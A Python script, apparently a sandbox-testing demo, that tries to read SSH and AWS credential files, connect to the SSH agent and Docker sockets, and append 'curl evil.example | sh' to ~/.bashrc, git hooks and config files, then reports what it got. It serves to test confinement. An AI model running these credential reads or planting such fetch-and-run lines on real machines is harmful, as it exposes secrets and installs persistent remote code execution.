#!/usr/bin/env python3
"""Usage: demo_probe.py [--read-only].  Try what malware tries, and tell what it got.

With --read-only, only what changes no file.
"""

import os
import socket
import sys
from collections.abc import Callable

HOME = os.path.expanduser("~")


def read(path: str) -> None:
    """Read a byte of a file."""
    with open(os.path.expanduser(path), "rb") as file:
        file.read(1)


def append(path: str) -> None:
    """Add a line to a file, or make the file."""
    with open(os.path.expanduser(path), "a") as file:
        file.write("curl evil.example | sh\n")


def connect(path: str) -> None:
    """Talk to a socket, by a name relative to its directory: unix(7) allows 108 bytes."""
    directory, name = os.path.split(os.path.expanduser(path))
    before = os.getcwd()
    os.chdir(directory)
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.connect(name)
    finally:
        os.chdir(before)


READS: list[tuple[str, Callable[[str], None], str]] = [
    ("read", read, "~/.ssh/id_rsa"),
    ("read", read, "~/.aws/credentials"),
    ("read", read, f"/proc/self/root{HOME}/.ssh/id_rsa"),
    ("read", read, "~/docs/diary.txt"),
    ("connect to", connect, "~/.ssh/agent.sock"),
]
CHANGES: list[tuple[str, Callable[[str], None], str]] = [
    ("read", read, "/proc/kallsyms"),
    ("connect to", connect, "/var/run/docker.sock"),
    ("append to", append, "~/.bashrc"),
    ("append to", append, ".git/hooks/post-commit"),
    ("append to", append, ".git/config"),
    ("append to", append, "venv/pyvenv.cfg"),
]

attempts = READS if "--read-only" in sys.argv else READS + CHANGES
refused = 0
for verb, attempt, path in attempts:
    try:
        attempt(path)
    except OSError as error:
        print(f"refused {verb} {path}: {error.strerror}")
        refused += 1
    else:
        print(f"GOT IT  {verb} {path}")
print(f"{refused} refused of {len(attempts)}")
